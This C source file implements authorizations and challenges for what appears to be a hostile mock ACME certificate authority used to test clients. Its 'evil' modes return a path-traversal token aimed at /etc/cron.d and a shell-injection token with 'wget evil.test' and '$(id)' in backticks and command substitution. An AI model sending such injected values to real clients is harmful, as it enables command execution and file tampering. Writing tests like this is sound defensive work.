/* ca_authz.c - authorizations and challenges (RFC 8555 7.1.4, 7.5, 8) */
#include <stdio.h>
#include <string.h>

#include "acme_json.h"
#include "ca.h"

static const char *authz_token(struct ca *ca, const struct ca_authz *z, char *room)
{
    if (evil_does(&ca->evil, EVIL_CHALL_PATH))
        return "../../../../etc/cron.d/../../../tmp/xxxx";
    if (evil_does(&ca->evil, EVIL_CHALL_SHELL))
        return "`wget evil.test`-0123456789abcdefghij$(id)";
    if (evil_does(&ca->evil, EVIL_CHALL_SHORT))
        return "abc";
    if (evil_does(&ca->evil, EVIL_CHALL_LONG)) {
        memset(room, 'T', 200);
        room[200] = '\0';
        return room;
    }
    return z->token;
}

static void put_challenge(struct ca *ca, const struct ca_order *o, unsigned which, const char *type,
                          struct acme_buf *b)
{
    const struct ca_authz *z = &o->authz[which];
    char text[700], room[201];

    snprintf(text, sizeof text,
             "{\"type\":\"%s\",\"status\":\"%s\",\"url\":\"%s/chall/%016llx/%u/%s\","
             "\"token\":\"%s\"",
             type, acme_status_name((enum acme_status)z->challenge), ca->base,
             (unsigned long long)o->number, which, type, authz_token(ca, z, room));
    acme_buf_text(b, text);
    if (z->challenge == ACME_STATUS_INVALID)
        acme_buf_text(b, ",\"error\":{\"type\":\"urn:ietf:params:acme:error:unauthorized\","
                         "\"detail\":\"not what we expected\"}");
    acme_buf_char(b, '}');
}

static const char *authz_status(struct ca *ca, struct ca_authz *z)
{
    if (evil_does(&ca->evil, EVIL_AUTHZ_DEAD))
        z->status = ACME_STATUS_DEACTIVATED;
    if (evil_does(&ca->evil, EVIL_AUTHZ_EXPIRED))
        z->status = ACME_STATUS_EXPIRED;
    return acme_status_name((enum acme_status)z->status);
}

void ca_put_authz(struct ca *ca, struct ca_order *o, unsigned which, struct ca_reply *r)
{
    struct ca_authz *z = &o->authz[which];
    struct acme_buf *b = &r->body;
    const char *name = z->name;

    if (evil_does(&ca->evil, EVIL_AUTHZ_FOREIGN))
        name = "somebody-else.test";
    acme_buf_text(b, "{\"identifier\":{\"type\":\"dns\",\"value\":\"");
    acme_buf_text(b, name);
    acme_buf_text(b, "\"},\"status\":\"");
    acme_buf_text(b, authz_status(ca, z));
    acme_buf_text(b, "\",\"challenges\":[");
    if (!evil_does(&ca->evil, EVIL_AUTHZ_NO_CHALLENGE)) {
        if (evil_does(&ca->evil, EVIL_AUTHZ_STRANGERS))
            acme_buf_text(b,
                          "{\"type\":\"dns-persist-01\",\"status\":\"pending\",\"url\":\"" CA_BASE
                          "/x\",\"issuer-domain-names\":[\"ca.test\"]},"
                          "{\"type\":\"quantum-02\",\"url\":7},");
        if (!z->wildcard && ca->txt == NULL)
            put_challenge(ca, o, which, "http-01", b);
        else
            put_challenge(ca, o, which, "dns-01", b);
    }
    acme_buf_text(b, z->wildcard ? "],\"wildcard\":true}" : "]}");
}

void ca_respond(struct ca *ca, struct ca_order *o, unsigned which, const struct ca_request *q,
                struct ca_reply *r)
{
    if (!acme_json_is_object(q->payload) || acme_json_count(q->payload) != 0)
        (void)ca_break(ca, "a challenge is answered with {} (7.5.1)");
    if (ca->before != NULL)
        ca->before(ca->before_ctx, ca, "respond", q, o);
    if (o->status != ACME_STATUS_PENDING || o->authz[which].status != ACME_STATUS_PENDING ||
        evil_does(&ca->evil, EVIL_CHALL_REFUSED)) {
        ca_problem(r, 400, "malformed", "authorization is not pending");
        return;
    }
    ca_va_start(ca, (uint32_t)(o - ca->orders), (uint8_t)which);
    r->acted = true;
    put_challenge(ca, o, which, ca->txt == NULL ? "http-01" : "dns-01", &r->body);
}
